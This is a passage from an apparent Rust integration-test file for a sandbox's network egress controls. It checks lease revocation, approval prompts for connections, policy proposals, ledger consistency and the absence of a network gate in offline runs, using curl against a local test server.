         https://{HOST}/hello; }}; ask; while [ ! -e /tmp/never ] && [ \"$(ask)\" = 200 ]; do \
         sleep 0.2; done; echo lost"
    );
    let flags = ["--lease", "prov"];
    let running = internet.exec_with(&flags, &["bash", "-c", &script]).env("KEY", CANARY).start();
    running.expect_output("200\n");
    internet.tell(&["lease", "revoke", "prov"]).expect_code(0);
    running.wait().expect_code(0).expect_out("200\nlost");
    assert!(!origin.requests().is_empty());
    assert!(internet.tell(&["lease", "list"]).expect_code(0).out().contains("no leases"));
    internet
        .exec_with(&flags, &["true"])
        .env("KEY", CANARY)
        .run()
        .expect_out("")
        .expect_err("prov");
}

fn connections_end_with_a_killed_control_plane() {
    let remains = Remains::watch();
    let (internet, origin) = Internet::with("");
    let script = format!("curl -sSN --cacert ca.pem https://{HOST}/slow; echo after");
    let running = internet.exec_with(&[], &["bash", "-c", &script]).start();
    running.expect_output("a line");
    running.signal(Signal::KILL);
    let ran = running.wait();
    assert!(!ran.out().contains("after"), "{ran}");
    // The server finds nobody at the other end.
    wait_until("the connection has ended", || origin.log().contains("\"kind\": \"error\""));
    let run = internet.run();
    assert_eq!(records(&run, "connect.intent").len(), 1);
    let ledger = std::fs::read(run.join("ledger.jsonl")).unwrap();
    let whole = ledger.iter().rposition(|byte| *byte == b'\n').unwrap();
    let verdict = verify_ledger(&ledger[..=whole], Expect::default());
    assert!(verdict.holds(), "{verdict:?}");
    drop(origin);
    remains.expect_none();
}

fn a_stopped_run_has_a_result_for_every_intent() {
    for more in [SEEN, ""] {
        let (internet, _origin) = Internet::with(more);
        let script = format!(
            "curl -sSN --cacert ca.pem https://{HOST}/slow > /dev/null & \
             curl -sSN -k https://{HOST}/slow"
        );
        let running = internet.exec_with(&[], &["bash", "-c", &script]).start();
        running.expect_output("a line");
        running.signal(Signal::INT);
        running.wait();
        let (intents, results) =
            (internet.records("connect.intent"), internet.records("connect.result"));
        assert_eq!(intents.len(), results.len(), "{intents:?} {results:?}");
        assert!(!intents.is_empty());
        internet.verify();
    }
}

fn every_command_of_a_warm_sandbox_has_the_network() {
    need("node");
    let (internet, origin) = Internet::with(SEEN);
    let flags = ["--quiet", "--session", "dev"];
    for _ in 0..2 {
        let script = format!(
            "curl -sS https://{HOST}/hello; curl -sS https://{OTHER}/hello 2>/dev/null || echo refused; \
             /usr/bin/node -e 'fetch(\"https://{HOST}/hello\").then(r => r.text())\
             .then(t => process.stdout.write(t))'"
        );
        let ran = internet.exec_with(&flags, &["bash", "-c", &script]).run();
        ran.expect_code(0).expect_out("hello from outside\nrefused\nhello from outside");
    }
    internet.tell(&["stop", "dev"]).expect_code(0);
    assert_eq!(origin.requests().len(), 4);
    assert_eq!(internet.reached(HOST)["connections"], 4);
    internet.verify();
}

fn what_was_refused_is_proposed_and_then_works() {
    // The person's own grant says where the name leads, and allows none of what is tried.
    let (internet, origin) = Internet::with("methods = [\"GET\"]\npaths = [\"/nothing\"]");
    let text = "[profile]\nname = \"mine\"\nextends = \"offline\"\n";
    let file = internet.world.write("mine.toml", text);
    let profile = file.to_str().unwrap();
    let script = format!("curl -sS https://{HOST}/hello; curl -sSf https://{OTHER}/; echo end");
    let exec = || {
        let line = ["bash", "-c", &script];
        internet.world.exec_with(&internet.project, &["--profile", profile], &line).run()
    };
    let refused = exec().expect_code(0);
    assert!(refused.out().contains("\"error\":\"denied\""), "{refused}");
    let proposed = internet.tell(&["policy", "propose"]).expect_code(0).out();
    for part in ["[[network]]", HOST, "GET", "\"/hello\"", OTHER] {
        assert!(proposed.contains(part), "{part} is missing\n{proposed}");
    }
    std::fs::write(&file, format!("{text}\n{proposed}")).unwrap();
    exec().expect_code(0).expect_out("hello from outside\nend");
    assert_eq!(origin.requests().len(), 1);
    let post = ["policy", "explain", "-p", profile, "http", "POST"];
    let url = format!("https://{HOST}/hello");
    assert!(internet.tell(&[&post[..], &[&url]].concat()).out().starts_with("deny"));
}

fn a_rule_that_asks_lets_a_connection_through_once_approved() {
    let (internet, origin) = Internet::with("");
    let rule = format!(
        "[profile]\nname = \"mine\"\nextends = \"offline\"\n\n[[rule]]\nid = \"ask-first\"\n\
         action = \"connect\"\nhost = \"{HOST}\"\nverdict = \"ask\"\nreason = \"others see it\"\n"
    );
    let profile = internet.world.write("mine.toml", rule);
    let flags = ["--profile", profile.to_str().unwrap()];
    let script = format!("curl -sS --cacert ca.pem https://{HOST}/hello; echo code-$?");
    for (answer, out, requests) in
        [("approve", "hello from outside\ncode-0", 1), ("deny", "code-", 1)]
    {
        let line = ["bash", "-c", &script];
        let running = internet.world.exec_with(&internet.project, &flags, &line).start();
        let mut asks = Vec::new();
        wait_until("an ask", || {
            let told = internet.tell(&["approvals", "--json"]).json();
            asks = told.as_array().unwrap().clone();
            !asks.is_empty()
        });
        assert_eq!(origin.connections(), requests - usize::from(answer == "approve"));
        assert!(asks[0].to_string().contains(HOST), "{asks:?}");
        internet.tell(&[answer, asks[0]["id"].as_str().unwrap()]).expect_code(0);
        let ran = running.wait().expect_code(0);
        assert!(ran.out().starts_with(out), "{ran}");
        assert_eq!(origin.requests().len(), requests);
        internet.verify();
    }
}

fn a_request_is_sent_once_approved_although_the_server_waited_no_longer() {
    let rule = format!(
        "{SEEN}\n[[rule]]\nid = \"ask-get\"\naction = \"http\"\nhost = \"{HOST}\"\n\
         methods = [\"GET\"]\nverdict = \"ask\"\nreason = \"others see it\"\n"
    );
    for version in ["http1.1", "http2"] {
        let mut internet = Internet::new();
        std::fs::write(internet.www().join("patience"), "2").unwrap();
        let origin = match version {
            "http2" => internet.http2_origin("2"),
            _ => internet.origin(Certificate::Good),
        };
        internet.grant(HOST, 443, &origin, &rule);
        let script = format!("curl -sS --{version} https://{HOST}/hello; echo code-$?");
        let running = internet.exec_with(&[], &["bash", "-c", &script]).start();
        let mut ask = Value::Null;
        wait_until("an ask", || {
            let asks = internet.tell(&["approvals", "--json"]).json();
            ask = asks.get(0).cloned().unwrap_or_default();
            !ask.is_null()
        });
        std::thread::sleep(std::time::Duration::from_secs(4));
        internet.tell(&["approve", ask["id"].as_str().unwrap()]).expect_code(0);
        let ran = running.wait().expect_code(0);
        assert!(ran.out().ends_with("\ncode-0") && ran.out().starts_with("hello"), "{ran}");
        let answered = internet.records("approval.answered").len();
        let (begun, ended) =
            (internet.records("connect.intent").len(), internet.records("connect.result").len());
        assert_eq!((answered, begun, ended), (1, 2, 2), "{version}");
        internet.verify();
    }
}

fn a_question_about_a_connection_ends_with_its_run() {
    let (internet, origin) = Internet::with("");
    let rule = format!(
        "[profile]\nname = \"mine\"\nextends = \"offline\"\n\n[[rule]]\nid = \"ask-first\"\n\
         action = \"connect\"\nhost = \"{HOST}\"\nverdict = \"ask\"\nreason = \"others see it\"\n"
    );
    let profile = internet.world.write("mine.toml", rule);
    let line = ["curl", "-sS", &format!("https://{HOST}/hello")];
    let flags = ["--profile", profile.to_str().unwrap()];
    let running = internet.world.exec_with(&internet.project, &flags, &line).start();
    wait_until("an ask", || {
        let told = internet.tell(&["approvals", "--json"]).json();
        told.as_array().is_some_and(|asks| !asks.is_empty())
    });
    running.signal(Signal::INT);
    running.wait();
    let denied = internet.records("denied");
    assert_eq!(denied.len(), 1, "{denied:?}");
    assert_eq!(denied[0]["because"], "withdrawn", "{denied:?}");
    assert_eq!(origin.connections(), 0);
    internet.verify();
}

fn a_run_without_network_has_no_gate() {
    let internet = Internet::new();
    let running = internet.exec_with(&[], &["bash", "-c", "echo up; read line"]).start();
    running.expect_output("up");
    await_record(&internet.world, "exec.intent");
    let threads = |id: rustix::process::Pid| {
        let tasks = format!("/proc/{}/task", id.as_raw_nonzero());
        let names = std::fs::read_dir(tasks)
            .unwrap()
            .filter_map(|task| std::fs::read_to_string(task.ok()?.path().join("comm")).ok());
        names.collect::<String>()
    };
    let names = threads(running.id());
    assert!(!names.contains("egress") && !names.contains("tokio"), "{names}");
    running.signal(Signal::INT);
    running.wait();
    let ran = internet.sh("cat /proc/net/tcp | wc -l; ls /etc/ssl/certs | grep -c loop");
    assert!(ran.out().starts_with('1'), "{ran}");
}
